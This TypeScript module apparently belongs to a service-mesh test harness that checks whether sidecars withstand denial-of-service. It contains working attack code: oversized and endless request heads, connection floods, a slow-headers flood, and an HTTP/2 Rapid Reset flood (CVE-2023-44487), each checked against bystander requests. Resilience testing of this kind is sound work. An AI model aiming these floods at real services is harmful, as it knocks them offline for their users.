/** Too much of everything: what one client may hold open or send, and whether others go on meanwhile. */
import { connect as connectHttp2 } from "node:http2";
import type { TLSSocket } from "node:tls";
import type { Attack, AttackStep } from "./attack.ts";
import { type Attempt, conclude, notPossible } from "./conclude.ts";
import { HTTP1_ALPN, requestBytes, sendAllowed, sendToSidecar } from "./mesh-request.ts";
import type { MeshUnderAttack } from "./mesh-under-attack.ts";
import { pastSidecar } from "./position.ts";
import { type AllowedCall, callableTargets, type HttpTarget } from "./targets.ts";
import { dial, dialTls } from "./wire.ts";

const ID = "m13";
/** Enough to be felt by a server without limits, little enough for a laptop. */
const CONNECTIONS = 150;
const STREAMS = 3000;
const BYSTANDERS = 10;
/** A bystander's request takes some milliseconds; one that takes so long is not served any more. */
const LONGEST_WAIT_MS = 4000;

export const denial: Attack = {
  id: ID,
  title: "denial: slow and endless heads, connection and stream floods",
  rows: ["M13"],
  needs: "a workload with a sidecar whose HTTP port another may call",
  sequential: true,
  plan(mesh) {
    // Every sidecar runs the same code: one target stands for all.
    return callableTargets(mesh)
      .slice(0, 1)
      .flatMap(({ target, call }) => [
        ...tooMuch(call).map(([tried, bytes]) => refusedStep(mesh, target, call, tried, bytes)),
        floodStep(mesh, target, call, `${CONNECTIONS} connections that say nothing`, () =>
          silent(target, call),
        ),
        floodStep(mesh, target, call, `${CONNECTIONS} heads that never end`, () =>
          slowHeads(mesh, target, call),
        ),
        floodStep(mesh, target, call, `${STREAMS} HTTP/2 streams opened and reset`, () =>
          rapidReset(mesh, target, call),
        ),
      ]);
  },
};

function tooMuch({ request }: AllowedCall): readonly (readonly [string, Buffer])[] {
  return [
    ["a head of 1 MB", requestBytes(request, `x: ${"y".repeat(1 << 20)}\r\n`)],
    ["50,000 headers", requestBytes(request, "x: y\r\n".repeat(50_000))],
    ["a request line of 1 MB", requestBytes({ ...request, path: `/${"z".repeat(1 << 20)}` })],
    [
      "a chunk extension without end",
      Buffer.from(
        `POST ${request.path} HTTP/1.1\r\nhost: ${request.host}\r\ntransfer-encoding: chunked\r\n\r\n1;${"e".repeat(1 << 20)}`,
        "latin1",
      ),
    ],
  ];
}

function place(tried: string, target: HttpTarget, call: AllowedCall) {
  return {
    tried,
    from: `${call.source.workload} (its certificate)`,
    target: `${target.workload.key}:${target.port}`,
  };
}

function refusedStep(
  mesh: MeshUnderAttack,
  target: HttpTarget,
  call: AllowedCall,
  tried: string,
  bytes: Buffer,
): AttackStep {
  const step = place(tried, target, call);
  return {
    ...step,
    run: async () => {
      const control = await sendAllowed(mesh, target, call.source, call.request);
      const credentials = await mesh.identityOf(call.source);
      const attempt = await sendToSidecar({
        target,
        from: call.source,
        credentials,
        conversation: { say: [bytes] },
      });
      const promised = { allowed: false, words: "refused: heads have a limit" };
      return [await conclude(mesh, { attack: ID, step, promised, control, attempt })];
    },
  };
}

/** A flood under way: ends when told to. */
type Flood = () => Promise<{ readonly made: number; readonly end: () => void }>;

/** Stopped means that others were served while it went on. */
function floodStep(
  mesh: MeshUnderAttack,
  target: HttpTarget,
  call: AllowedCall,
  tried: string,
  flood: Flood,
): AttackStep {
  const step = place(tried, target, call);
  return {
    ...step,
    run: async () => {
      const control = await bystanders(mesh, target, call);
      if (!control.reached)
        return [notPossible(ID, step, `nobody is served to begin with: ${control.happened}`)];
      const { made, end } = await flood();
      const during = await bystanders(mesh, target, call);
      end();
      const attempt: Attempt = {
        ...during,
        reached: !during.reached,
        ...(during.reached ? { harmless: "the sidecar's limits: others were served meanwhile" } : {}),
        ...(made === 0 ? { nothingThere: "the flood could not be made" } : {}),
        happened: `${made} made; meanwhile ${during.happened}`,
      };
      const promised = { allowed: false, words: "others are served" };
      return [await conclude(mesh, { attack: ID, step, promised, control, attempt })];
    },
  };
}

async function bystanders(mesh: MeshUnderAttack, target: HttpTarget, call: AllowedCall): Promise<Attempt> {
  const times: number[] = [];
  const startedAtMs = Date.now();
  for (let i = 0; i < BYSTANDERS; i++) {
    const from = performance.now();
    const attempt = await sendAllowed(mesh, target, call.source, call.request);
    if (attempt.reached) times.push(performance.now() - from);
  }
  const slowest = Math.round(Math.max(0, ...times));
  return {
    reached: times.length === BYSTANDERS && slowest < LONGEST_WAIT_MS,
    happened: `${times.length} of ${BYSTANDERS} others were served, the slowest in ${slowest} ms`,
    evidence: {},
    local: undefined,
    startedAtMs,
  };
}

async function silent(target: HttpTarget, call: AllowedCall) {
  const dialled = await Promise.all(
    Array.from({ length: CONNECTIONS }, () => dial(addressFor(target, call))),
  );
  const sockets = dialled.flatMap((one) => ("socket" in one ? [one.socket] : []));
  return { made: sockets.length, end: () => sockets.forEach((socket) => void socket.destroy()) };
}

async function slowHeads(mesh: MeshUnderAttack, target: HttpTarget, call: AllowedCall) {
  const credentials = await mesh.identityOf(call.source);
  const sockets: TLSSocket[] = [];
  for (let i = 0; i < CONNECTIONS; i++) {
    const dialled = await dialTls(addressFor(target, call), { credentials, ALPNProtocols: [...HTTP1_ALPN] });
    if (!("socket" in dialled)) continue;
    dialled.socket.write(`GET ${call.request.path} HTTP/1.1\r\nx-slow: `);
    sockets.push(dialled.socket);
  }
  return { made: sockets.length, end: () => sockets.forEach((socket) => void socket.destroy()) };
}

/** CVE-2023-44487: each stream is cheap to open and reset, and costs the server a request. */
async function rapidReset(mesh: MeshUnderAttack, target: HttpTarget, call: AllowedCall) {
  const credentials = await mesh.identityOf(call.source);
  const dialled = await dialTls(addressFor(target, call), { credentials, ALPNProtocols: ["istio-h2", "h2"] });
  if (!("socket" in dialled)) return { made: 0, end: () => {} };
  const session = connectHttp2("https://target", { createConnection: () => dialled.socket });
  session.on("error", () => {});
  let made = 0;
  for (; made < STREAMS && !session.destroyed && !session.closed; made++) {
    const stream = session.request({ ":path": call.request.path, ":authority": target.host });
    stream.on("error", () => {});
    stream.close(8);
    if (made % 100 === 0) await new Promise((resolve) => setImmediate(resolve));
  }
  return { made, end: () => session.destroy() };
}

function addressFor(target: HttpTarget, call: AllowedCall) {
  return { host: target.pod.address, port: target.socketPort, ...pastSidecar(call.source) };
}
